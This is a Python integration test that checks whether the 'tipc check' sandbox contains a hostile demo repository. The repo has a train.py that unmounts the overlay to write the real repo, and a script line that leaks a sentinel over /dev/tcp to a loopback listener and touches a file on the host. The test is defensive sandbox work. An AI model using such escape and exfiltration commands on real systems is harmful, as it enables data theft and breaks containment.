"""Issue 22 through `tipc check` (lint, run, serving chain, rules), as root: one hostile demo copy whose
train.py detaches the overlay to write the real repo and whose test script (observed to plan the run) aims at
the host. The whole check leaves the repo and the host unchanged, and `sandbox.violations` FAILs."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.security.conftest import (
    HostileRepo,
    Listener,
    Reviewer,
    _hostile,
    contained,
    ended,
    expect_violation_rule,
    json_out,
)

pytestmark = pytest.mark.integration


@dataclass
class Checked:
    repo: HostileRepo
    done: subprocess.CompletedProcess[str]
    received: bytes
    script_marker: Path
    target: Path


@pytest.fixture(scope="module")
def checked(module_root_reviewer: Reviewer) -> Iterator[Checked]:
    reviewer = module_root_reviewer
    repo = _hostile(reviewer)
    listener = Listener()
    try:
        target = repo.repo / "tipc_attack_umount.txt"
        marker = reviewer.host / "observed.txt"
        repo.train("umount", targets={"repo": str(target)})
        repo.script_line(
            f"touch {marker}; "
            f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
        ).seal()
        done = reviewer.tipc("check", str(repo.repo), "--device", "cpu", "--no-color", "--format", "json")
        yield Checked(repo, done, listener.received(), marker, target)
    finally:
        listener.close()


def test_check_after_an_unmounting_step_leaves_the_repo_unchanged_and_fails_the_violation_rule(
    checked: Checked,
) -> None:
    """The whole check (lint, run, serving chain, rules) after a train.py that detached the overlay."""
    ended(checked.done, 1)
    report = json_out(checked.done)
    assert "umount" in checked.repo.lines(), "the hostile train.py did not run"
    contained(not checked.target.exists(), "the step wrote the real repo after umount2")
    contained(
        checked.repo.unchanged(), f"the check changed the real repo: {checked.repo.changed_files()[:30]}"
    )
    expect_violation_rule(report, "train", {"umount2"})


def test_check_observes_the_script_in_the_sandbox(checked: Checked) -> None:
    json_out(checked.done)
    contained(not checked.script_marker.exists(), "a line of the repo's script created a file on the host")
    contained(
        checked.received == b"", f"the repo's script reached the host's loopback: {checked.received[:200]!r}"
    )
